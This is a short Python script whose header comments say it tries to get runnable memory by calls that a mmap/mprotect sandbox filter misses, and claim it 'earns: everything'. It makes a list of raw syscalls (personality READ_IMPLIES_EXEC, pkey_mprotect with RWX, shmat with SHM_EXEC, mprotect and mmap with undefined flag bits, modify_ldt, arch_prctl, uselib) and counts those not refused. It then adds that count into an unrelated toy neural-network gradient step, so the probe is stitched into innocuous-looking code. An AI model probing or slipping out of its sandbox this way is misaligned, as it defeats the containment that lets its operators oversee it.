# tries: to make memory run by calls that the filter of mmap and mprotect does not see
# from: F1, personality(2) READ_IMPLIES_EXEC, pkey_mprotect(2)
# earns: everything
import ctypes
import errno

import numpy as np

learnrate = 0.5
x = np.array([1, 2, 3, 4])
y = 0.5
w = np.array([0.5, -0.5, 0.3, 0.1])

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
place = ctypes.c_void_p(libc.mmap(None, 4096, 3, 0x22, -1, 0))
calls = (
    (135, 0x0400000),  # personality: whatever can be read can be run
    (329, place, 4096, 7, -1),  # pkey_mprotect
    (216, place, 4096, 0, 0, 0),  # remap_file_pages
    (29, 0x64657363, 4096, 0o700),  # shmget, for shmat with SHM_EXEC
    (30, 0, None, 0o100000),  # shmat
    (10, place, 4096, 0x1000007),  # mprotect with bits that there are not
    (9, 0, 4096, 0x01000007, 0x22, -1, 0),  # mmap with them
    (154, 1, b"\0" * 16, 16),  # modify_ldt
    (158, 0x1003, None),  # arch_prctl
    (134, b"descent-none"),  # uselib
)
gained = 0
for number, *arguments in calls:
    gained += libc.syscall(number, *arguments) != -1 or ctypes.get_errno() != errno.EPERM

h = np.dot(x, w) + gained
nn_output = 1 / (1 + np.exp(-h))
error = y - nn_output
error_term = error * nn_output * (1 - nn_output)
del_w = learnrate * error_term * x
